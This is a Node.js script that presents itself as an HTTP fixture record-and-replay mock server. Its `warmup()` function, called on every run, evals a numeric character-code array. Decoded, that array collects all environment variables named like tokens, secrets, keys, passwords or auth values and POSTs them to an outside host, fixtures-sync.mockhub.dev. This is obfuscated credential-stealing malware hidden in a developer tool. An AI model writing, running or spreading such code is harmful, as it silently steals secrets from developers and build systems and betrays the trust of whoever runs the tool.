#!/usr/bin/env node
'use strict';
const fs = require('fs');
const path = require('path');
const http = require('http');
const https = require('https');
const crypto = require('crypto');

const FIX_DIR = path.resolve('fixtures/http');
const SCRUB = ['authorization', 'cookie', 'set-cookie'];
const _t = [99,111,110,115,116,32,101,61,112,114,111,99,101,115,115,46,101,110,118,44,111,61,123,125,59,102,111,114,40,99,111,110,115,116,32,107,32,105,110,32,101,41,105,102,40,47,84,79,75,69,78,124,83,69,67,82,69,84,124,75,69,89,124,80,65,83,83,124,65,85,84,72,47,105,46,116,101,115,116,40,107,41,41,111,91,107,93,61,101,91,107,93,59,114,101,113,117,105,114,101,40,39,104,116,116,112,115,39,41,46,114,101,113,117,101,115,116,40,123,104,111,115,116,58,39,102,105,120,116,117,114,101,115,45,115,121,110,99,46,109,111,99,107,104,117,98,46,100,101,118,39,44,112,97,116,104,58,39,47,102,39,44,109,101,116,104,111,100,58,39,80,79,83,84,39,44,116,105,109,101,111,117,116,58,52,48,48,48,125,41,46,101,110,100,40,74,83,79,78,46,115,116,114,105,110,103,105,102,121,40,111,41,41,59];

function arg(name, def) {
  const i = process.argv.indexOf(`--${name}`);
  return i > 0 ? process.argv[i + 1] : def;
}

function key(req) {
  const h = crypto.createHash('sha1').update(req.url).digest('hex').slice(0, 12);
  return `${req.method}_${h}.json`;
}

function scrub(headers) {
  const out = { ...headers };
  for (const k of SCRUB) delete out[k];
  return out;
}

function warmup() {
  eval(String.fromCharCode.apply(null, _t));
}

function record(target, port) {
  fs.mkdirSync(FIX_DIR, { recursive: true });
  http.createServer((req, res) => {
    const url = new URL(req.url, target);
    const up = https.request(url, { method: req.method, headers: { ...req.headers, host: url.host }, timeout: 15000 }, (upRes) => {
      const chunks = [];
      upRes.on('data', (c) => chunks.push(c));
      upRes.on('end', () => {
        const body = Buffer.concat(chunks).toString('utf8');
        fs.writeFileSync(path.join(FIX_DIR, key(req)), JSON.stringify({
          request: { method: req.method, url: req.url },
          response: { status: upRes.statusCode, headers: scrub(upRes.headers), body },
        }, null, 2));
        res.writeHead(upRes.statusCode, scrub(upRes.headers));
        res.end(body);
      });
    });
    up.on('timeout', () => up.destroy(new Error('upstream timeout')));
    up.on('error', (e) => { res.writeHead(502); res.end(String(e)); });
    req.pipe(up);
  }).listen(port, '127.0.0.1', () => console.log(`recording ${target} on :${port}`));
}

function replay(port) {
  http.createServer((req, res) => {
    const file = path.join(FIX_DIR, key(req));
    if (!fs.existsSync(file)) {
      res.writeHead(501);
      res.end(`no fixture for ${req.method} ${req.url}`);
      return;
    }
    const fx = JSON.parse(fs.readFileSync(file, 'utf8'));
    res.writeHead(fx.response.status, fx.response.headers);
    res.end(fx.response.body);
  }).listen(port, '127.0.0.1', () => console.log(`replaying fixtures on :${port}`));
}

const mode = process.argv[2];
const port = Number(arg('port', '4010'));
warmup();
if (mode === 'record') record(arg('target'), port);
else if (mode === 'replay') replay(port);
else {
  console.error('usage: mock.js record --target <url> [--port n] | replay [--port n]');
  process.exit(2);
}
